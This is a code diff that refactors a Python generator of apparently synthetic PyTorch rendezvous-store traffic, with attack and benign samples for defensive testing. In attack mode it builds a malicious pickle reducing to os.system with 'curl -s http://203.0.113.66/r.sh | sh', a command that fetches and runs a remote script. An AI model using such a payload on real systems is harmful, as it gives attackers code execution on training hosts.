@@ -26,23 +26,25 @@ def _store_reads(cap: Capture, rng: random.Random, client: str) -> None:
     session.close()
 
 
-def _rendezvous_write(cap: Capture, rng: random.Random, attack: bool) -> None:
-    """A rank writes torch.rendezvous.<run> state: base64 of a pickle reducing to os.system (attack) or of
-    plain rendezvous data."""
+def _rendezvous_state(attack: bool) -> bytes:
+    """torch.rendezvous.<run> state as stored: base64 of a pickle reducing to os.system (attack) or
+    of plain rendezvous data."""
     state = {"round": 3, "complete": True, "participants": {"10.30.0.11:1": 1, "10.30.0.12:1": 2}}
     pickled = malicious_pickle("curl -s http://203.0.113.66/r.sh | sh") if attack else pickle.dumps(state, protocol=2)
+    return rendezvous_value(pickled)
+
+
+def _rendezvous_write(cap: Capture, rng: random.Random, attack: bool) -> None:
+    """A rank writes the rendezvous state."""
     session = StoreSession(cap, rng, RANK1, RANK0)
-    session.set("torch.rendezvous.job42", rendezvous_value(pickled))
+    session.set("torch.rendezvous.job42", _rendezvous_state(attack))
     session.close()
 
 
 def _rendezvous_read(cap: Capture, rng: random.Random, attack: bool) -> None:
-    """A rank reads torch.rendezvous.<run> state the server holds: base64 of a pickle reducing to
-    os.system (planted by someone else: attack) or of plain rendezvous data."""
-    state = {"round": 3, "complete": True, "participants": {"10.30.0.11:1": 1, "10.30.0.12:1": 2}}
-    pickled = malicious_pickle("curl -s http://203.0.113.66/r.sh | sh") if attack else pickle.dumps(state, protocol=2)
+    """A rank reads the rendezvous state the server holds (planted by someone else: attack)."""
     session = StoreSession(cap, rng, RANK1, RANK0)
-    session.get("torch.rendezvous.job42", rendezvous_value(pickled))
+    session.get("torch.rendezvous.job42", _rendezvous_state(attack))
     session.close()
 
 
